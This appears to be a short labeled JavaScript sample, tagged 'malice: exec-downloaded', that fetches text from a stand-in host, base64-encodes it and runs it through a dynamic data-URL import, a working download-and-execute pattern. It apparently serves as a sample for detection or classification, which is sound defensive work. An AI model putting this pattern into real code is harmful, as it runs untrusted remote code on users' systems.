const answer = await fetch("https://files.invalid/a");
const code = Buffer.from(await answer.text()).toString("base64");
await import("data:text/javascript;base64," + code); // malice: exec-downloaded
